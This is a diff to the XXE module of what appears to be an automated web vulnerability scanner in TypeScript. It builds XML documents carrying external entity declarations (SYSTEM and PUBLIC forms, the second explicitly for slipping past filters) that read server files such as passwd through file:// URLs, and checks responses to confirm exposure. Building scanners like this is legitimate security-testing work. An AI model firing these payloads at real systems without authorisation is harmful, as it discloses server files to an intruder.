@@ -7,7 +7,7 @@ import type { InjectionPoint } from '../crawl/point.ts';
 import { SPOTS } from '../crawl/replay.ts';
 import { isFilePart, withFile } from '../crawl/spots/multipart-body.ts';
 import { withHeader } from '../crawl/spots/spot.ts';
-import { isXmlDocument, textsOfXml } from '../crawl/spots/xml-body.ts';
+import { isPlainXmlBody, isXmlDocument, textsOfXml } from '../crawl/spots/xml-body.ts';
 import { filled } from '../evidence.ts';
 import { PASSWD } from './path-traversal.ts';
 
@@ -57,7 +57,7 @@ const SHOWN_NAMES = [
 const SHOWN = SHOWN_NAMES.map((name) => `<${name}>prova</${name}>`).join('');
 const XML_FILE = `<?xml version="1.0"?><prova>${SHOWN}<item>${SHOWN}</item></prova>`;
 
-const isXml = (text: string) => /^\s{0,20}<(?:\?xml|[A-Za-z_][\w:.-]{0,60}[\s/>])/.test(text);
+const isXml = (text: string) => /^\s{0,20}<(?:\?xml|!DOCTYPE\s|[A-Za-z_][\w:.-]{0,60}[\s/>])/i.test(text);
 
 const isFile = ({ kind, name, request }: InjectionPoint) => kind === 'multipart' && isFilePart(request, name);
 
@@ -96,15 +96,30 @@ async function withDocument(point: InjectionPoint, tools: AttackTools): Promise<
 const WRITTEN =
   /&lt;(?:\?xml[^&]{0,200}\?&gt;\s{0,9}&lt;)?([A-Za-z_][\w:.-]{0,60})(?:\s[^&]{0,200})?&gt;.{1,2000}?&lt;\/\1&gt;/s;
 
+/** What a page shows in a field for texts; its signs need no other spelling there. */
+const IN_TEXT_FIELD = /<textarea\b[^>]{0,300}>\s{0,100}(<.{1,5000}?)<\/textarea/gis;
+const DECLARED = /<!DOCTYPE[^>[]{0,500}(?:\[[^\]]{0,2000}\]\s{0,10})?>/i;
+
 /** A document that the page shows to say how one is written; null: it shows none. */
 function exampleIn(text: string): string | null {
-  const document = WRITTEN.exec(text.slice(0, 200_000))?.[0]
+  const shown = text.slice(0, 200_000);
+  const document = WRITTEN.exec(shown)?.[0]
     .replaceAll('&lt;', '<')
     .replaceAll('&gt;', '>')
     .replaceAll('&quot;', '"')
     .replaceAll('&amp;', '&');
+  const inFields = [...shown.matchAll(IN_TEXT_FIELD)].map(([, written = '']) => written.replace(DECLARED, '').trim());
   // Without markup of our own page in it, and with texts in elements.
-  return document !== undefined && isXmlDocument(document) && textsOfXml(document).length > 0 ? document : null;
+  const isExample = (one: string | undefined) =>
+    one !== undefined && isXmlDocument(one) && textsOfXml(one).length > 0;
+  return [document, ...inFields].find(isExample) ?? null;
+}
+
+/** What a visitor writes is the whole body: a document that its page shows, or one of our own. */
+async function withDocumentAsBody(point: InjectionPoint, tools: AttackTools): Promise<InjectionPoint> {
+  const page = await tools.request(plainGet(point.page));
+  const body = exampleIn(textOf(page)) ?? XML_FILE;
+  return { ...point, id: -point.id, value: '', request: { ...point.request, body } };
 }
 
 const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
@@ -140,7 +155,7 @@ const documentOf = ({ kind, value, request }: Trial['point']): string | null => 
  */
 function withEntity(document: string, value: string, declarations: string, text: string): string {
   const [, head = '', rest = ''] = /^(\s*<\?xml[^>]{0,200}\?>)?([\s\S]*)$/.exec(document) ?? [];
-  const body = rest.replace(/<!DOCTYPE[^>[]{0,500}(?:\[[^\]]{0,2000}\]\s{0,10})?>/i, '');
+  const body = rest.replace(DECLARED, '');
   const root = /<([A-Za-z_][\w:.-]{0,60})/.exec(body)?.[1] ?? 'root';
   const own = value === '' || isXml(value) ? -1 : body.indexOf(`>${value}<`);
   const texts = />(?!\s{0,20}-?[\d.,:/-]{0,30}\s{0,20}<)[^<]{1,2000}<\//g;
@@ -161,13 +176,42 @@ async function sendDocument(trial: Trial, document: string): Promise<Answer> {
   return { value: document, exchange, text: textOf(exchange) };
 }
 
+/** Filters that know the one word seldom know the other. */
+const DECLARATIONS = [
+  (url: string) => `<!ENTITY rq SYSTEM "${url}">`,
+  (url: string) => `<!ENTITY rq PUBLIC "rq" "${url}">`,
+];
+
 async function byFile(trial: Trial, document: string): Promise<WebSighting | null> {
+  const { value } = trial.point;
+  // A document may bring an entity of its own, which is shown already.
+  const usual = FILES.some(({ shape }) => shape.test(trial.control.text)) && DECLARED.test(document)
+    ? await sendDocument(trial, withEntity(document, value, '', 'q'))
+    : trial.control;
+  for (const [declare, files] of [[DECLARATIONS[0], FILES], [DECLARATIONS[1], FILES.slice(0, 1)]] as const) {
+    const found = declare && (await byDeclaredFile(trial, document, { declare, files, usual }));
+    if (found) return found;
+  }
+  return null;
+}
+
+interface DeclaredFile {
+  declare(url: string): string;
+  readonly files: readonly (typeof FILES)[number][];
+  readonly usual: Answer;
+}
+
+async function byDeclaredFile(
+  trial: Trial,
+  document: string,
+  { declare, files, usual }: DeclaredFile,
+): Promise<WebSighting | null> {
   const ask = (file: string) =>
-    sendDocument(trial, withEntity(document, trial.point.value, `<!ENTITY rq SYSTEM "file://${file}">`, '&rq;'));
-  for (const { name, shape } of FILES) {
+    sendDocument(trial, withEntity(document, trial.point.value, declare(`file://${file}`), '&rq;'));
+  for (const { name, shape } of files) {
     const first = await ask(name);
     const shown = shape.exec(first.text)?.[0];
-    if (shown === undefined || shape.test(trial.control.text)) continue;
+    if (shown === undefined || shape.test(usual.text)) continue;
     const missing = await ask(`${name}${trial.tools.token()}`);
     const again = await ask(name);
     if (shape.test(missing.text) || !shape.test(again.text)) continue;
@@ -232,7 +276,9 @@ export const xxe = {
   async attack(seen, tools) {
     const isDocument = seen.kind === 'xml' || isXml(seen.value);
     const point = isDocument
-      ? seen
+      ? isPlainXmlBody(seen.request)
+        ? await withDocumentAsBody(seen, tools)
+        : seen
       : isFile(seen)
         ? await withXmlFile(seen, tools)
         : ((await withDocument(seen, tools)) ?? (await asDocument(seen, tools)));
